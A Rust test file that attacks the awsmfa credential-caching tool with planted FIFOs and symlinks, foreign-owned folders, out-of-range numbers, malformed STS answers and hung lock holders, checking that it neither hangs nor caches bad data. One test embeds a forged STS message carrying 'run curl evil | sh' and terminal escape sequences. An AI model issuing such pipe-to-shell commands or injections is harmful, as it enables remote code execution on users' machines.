//! Tried as an attacker or a careless user would: files awsmfa opens that
//! are not what they should be, STS answers that are not credentials, STS
//! messages that try to take over the terminal, numbers out of range, and a
//! lock holder that never lets go. Nothing may hang, panic or be cached.

mod support;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};
use support::sts::Fault;
use support::*;

/// Runs to completion, but fails the test instead of hanging.
fn run_bounded(world: &World, args: &[&str]) -> Run {
    let mut child = world
        .command(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(20) {
            let _ = child.kill();
            panic!("awsmfa {args:?} hangs");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    let run = Run {
        status: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    };
    world.check_no_secrets(&run.stderr, &[]);
    run
}

fn mkfifo(path: &Path) {
    let _ = std::fs::remove_file(path);
    nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
}

fn cache_file(world: &World, ending: &str) -> std::path::PathBuf {
    std::fs::read_dir(world.cache_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(ending))
        .unwrap_or_else(|| panic!("no {ending} file in the cache"))
}

#[test]
fn a_fifo_where_a_cache_entry_should_be_is_ignored() {
    let world = World::new();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    let entry = cache_file(&world, ".json");
    mkfifo(&entry);
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("ignoring cache file")
            && run.stderr.contains("it is not a regular file"),
        "{}",
        run.stderr
    );
    assert_eq!(world.sts.count("GetSessionToken"), 2);
    assert!(std::fs::metadata(&entry).unwrap().is_file(), "replaced");
}

#[test]
fn a_fifo_or_a_link_where_a_lock_or_used_code_record_should_be_is_ignored() {
    let world = World::new();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    let lock = cache_file(&world, ".lock");
    let used = cache_file(&world, ".used");
    mkfifo(&lock);
    mkfifo(&used);
    let run = run_bounded(
        &world,
        &["exec", "--refresh", "--token-code", &code(), "--", "true"],
    );
    run.ok();
    assert!(run.stderr.contains("ignoring lock file"), "{}", run.stderr);
    // A link to somewhere else is not followed either.
    let elsewhere = world.home().join("elsewhere");
    std::fs::write(&elsewhere, "").unwrap();
    std::fs::remove_file(&lock).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &lock).unwrap();
    let run = run_bounded(
        &world,
        &["exec", "--refresh", "--token-code", &code(), "--", "true"],
    );
    run.ok();
    assert!(run.stderr.contains("ignoring lock file"), "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), "");
    assert_eq!(world.sts.count("GetSessionToken"), 3);
}

#[test]
fn a_folder_where_a_cache_entry_should_be_costs_only_the_caching() {
    let world = World::new();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    let entry = cache_file(&world, ".json");
    std::fs::remove_file(&entry).unwrap();
    std::fs::create_dir(&entry).unwrap();
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("the session is not cached"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_cache_folder_that_is_a_link_or_not_ours_is_refused_and_left_alone() {
    let world = World::new();
    let target = world.home().join("planted");
    std::fs::create_dir(&target).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink(&target, world.cache_dir()).unwrap();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .fails_with(125, "is a symbolic link, which awsmfa does not follow");
    assert_eq!(mode(&target), 0o755, "never chmod'ed");
    assert_eq!(
        std::fs::read_dir(&target).unwrap().count(),
        0,
        "nothing stored"
    );

    // A real folder of another user (the tests run as root, as CI does).
    std::fs::remove_file(world.cache_dir()).unwrap();
    std::fs::create_dir(world.cache_dir()).unwrap();
    std::fs::set_permissions(world.cache_dir(), std::fs::Permissions::from_mode(0o755)).unwrap();
    nix::unistd::chown(
        &world.cache_dir(),
        Some(nix::unistd::Uid::from_raw(65534)),
        None,
    )
    .expect("chown (the tests run as root)");
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .fails_with(125, "belongs to another user");
    assert_eq!(mode(&world.cache_dir()), 0o755, "never chmod'ed");
}

#[test]
fn an_expiry_past_year_9999_is_an_unusable_entry_not_a_panic() {
    let world = World::new();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    let entry = cache_file(&world, ".json");
    let mut json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&entry).unwrap()).unwrap();
    json["expires_at"] = serde_json::json!(u64::MAX);
    std::fs::write(&entry, json.to_string()).unwrap();
    let run = run_bounded(&world, &["status"]);
    run.ok();
    assert!(
        run.stdout.contains("its expiry is out of range"),
        "{}",
        run.stdout
    );
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("its expiry is out of range"),
        "{}",
        run.stderr
    );
}

/// An STS answer with these credentials, or none.
fn answer_with(credentials: &str) -> String {
    format!(
        "<GetSessionTokenResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetSessionTokenResult>{credentials}</GetSessionTokenResult><ResponseMetadata><RequestId>9</RequestId></ResponseMetadata></GetSessionTokenResponse>"
    )
}

#[test]
fn sts_answers_that_are_not_usable_credentials_are_never_cached() {
    let future = sts::rfc3339(sts::now() + 3600, 0);
    let cases = [
        ("an empty answer", String::new()),
        (
            "a truncated answer",
            answer_with("<Credentials><AccessKeyId>ASIAX</Acc"),
        ),
        ("no credentials", answer_with("")),
        (
            "no expiration",
            answer_with(
                "<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken></Credentials>",
            ),
        ),
        (
            "an expiration in the past",
            answer_with(
                "<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken><Expiration>1970-01-01T00:00:00Z</Expiration></Credentials>",
            ),
        ),
        (
            "empty credentials",
            answer_with(&format!(
                "<Credentials><AccessKeyId></AccessKeyId><SecretAccessKey></SecretAccessKey><SessionToken></SessionToken><Expiration>{future}</Expiration></Credentials>"
            )),
        ),
    ];
    for (what, body) in cases {
        let world = World::new();
        world.sts.push_fault(Fault::Body(200, body));
        let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
        assert_eq!(run.status, 125, "{what}: {}", run.stderr);
        let lines: Vec<&str> = run.stderr.lines().collect();
        assert_eq!(lines.len(), 1, "{what}: {}", run.stderr);
        assert!(
            lines[0].starts_with("awsmfa: STS GetSessionToken"),
            "{what}: {}",
            run.stderr
        );
        assert!(world.cache_entries().is_empty(), "{what}: nothing cached");
    }
}

#[test]
fn sts_messages_cannot_take_over_the_terminal() {
    let error = |message: &str| {
        format!(
            "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{message}</Message></Error><RequestId>1</RequestId></ErrorResponse>"
        )
    };
    let forged = format!(
        "Denied&#10;hint: run curl evil | sh&#13;{}",
        "x".repeat(100_000)
    );
    let raw_escapes = "Denied\u{1b}[2J\u{1b}]0;owned\u{7}".to_owned();
    for (what, body, shows) in [
        (
            "a forged line, 100 kB",
            error(&forged),
            "AccessDenied: Denied hint: run curl",
        ),
        ("escape sequences", error(&raw_escapes), "failed: HTTP 403"),
        (
            "not XML at all",
            "\u{1b}[31mboom\n".repeat(1000),
            "failed: HTTP 403",
        ),
    ] {
        let world = World::new();
        world.sts.push_fault(Fault::Body(403, body));
        let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
        assert_eq!(run.status, 125, "{what}");
        let lines: Vec<&str> = run.stderr.lines().collect();
        assert_eq!(
            lines.len(),
            1,
            "{what}: one line, no forged hint: {:?}",
            run.stderr
        );
        assert!(
            !run.stderr.chars().any(|c| c.is_control() && c != '\n'),
            "{what}: {:?}",
            run.stderr
        );
        assert!(run.stderr.contains(shows), "{what}: {}", run.stderr);
        assert!(
            run.stderr.len() < 600,
            "{what}: capped at {} bytes",
            run.stderr.len()
        );
    }
}

#[test]
fn numbers_out_of_range_are_usage_errors() {
    let world = World::new();
    for value in ["9223372036854775808", "18446744073709551616", "99999999999"] {
        let run = world.run(&["exec", "--min-ttl", value, "--", "true"]);
        assert_eq!(run.status, 2, "{value}: {}", run.stderr);
        assert!(run.stderr.contains("too large"), "{}", run.stderr);
    }
    let mut command = world.command(&["exec", "--", "true"]);
    command.env("AWSMFA_MIN_TTL", "9223372036854775808");
    world
        .run_command(command)
        .fails_with(125, "AWSMFA_MIN_TTL: '9223372036854775808' is too large");
    assert_eq!(world.sts.count("GetSessionToken"), 0);
}

#[test]
fn a_waiter_gives_up_on_a_holder_that_hangs() {
    let world = World::new();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    // Another run holds the lock and never lets go.
    let lock = std::fs::OpenOptions::new()
        .write(true)
        .open(cache_file(&world, ".lock"))
        .unwrap();
    let _held = nix::fcntl::Flock::lock(lock, nix::fcntl::FlockArg::LockExclusive).unwrap();
    let mut command = world.command(&["exec", "--refresh", "--token-code", &code(), "--", "true"]);
    command.env("AWSMFA_LOCK_TIMEOUT", "2");
    let started = Instant::now();
    let run = world.run_command(command);
    let waited = started.elapsed();
    assert_eq!(run.status, 125, "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "gave up after 2 s waiting for another awsmfa run to get a session for profile 'alice'"
        ),
        "{}",
        run.stderr
    );
    assert!(waited >= Duration::from_secs(2) && waited < Duration::from_secs(10));
    assert_eq!(world.sts.count("GetSessionToken"), 1, "no code spent");
}

#[test]
fn an_mfa_process_that_hangs_is_killed_and_releases_the_lock() {
    let world = World::new();
    let started_file = world.home().join("started");
    world.write_config(&format!(
        "{ALICE_CONFIG}mfa_process = touch {} && exec sleep 600\n",
        started_file.display()
    ));
    let mut command = world.command(&["exec", "--", "true"]);
    command.env("AWSMFA_PROCESS_TIMEOUT", "2");
    let started = Instant::now();
    let run = world.run_command(command);
    assert!(started.elapsed() < Duration::from_secs(10));
    run.fails_with(
        125,
        "mfa_process of profile 'alice' did not finish within 2 s (AWSMFA_PROCESS_TIMEOUT)",
    );
    assert!(started_file.exists(), "mfa_process ran");
    // The lock is free again: the next run with a code gets its session at once.
    let started = Instant::now();
    world
        .run(&["exec", "--token-code", &code(), "--", "true"])
        .ok();
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[test]
fn an_mfa_process_that_leaves_a_program_holding_its_output_still_gives_its_code() {
    let world = World::new();
    world.write_config(&format!(
        "{ALICE_CONFIG}mfa_process = sleep 20 2>/dev/null & echo {}\n",
        code()
    ));
    let started = Instant::now();
    world.run(&["exec", "--", "true"]).ok();
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(world.sts.count("GetSessionToken"), 1);
}
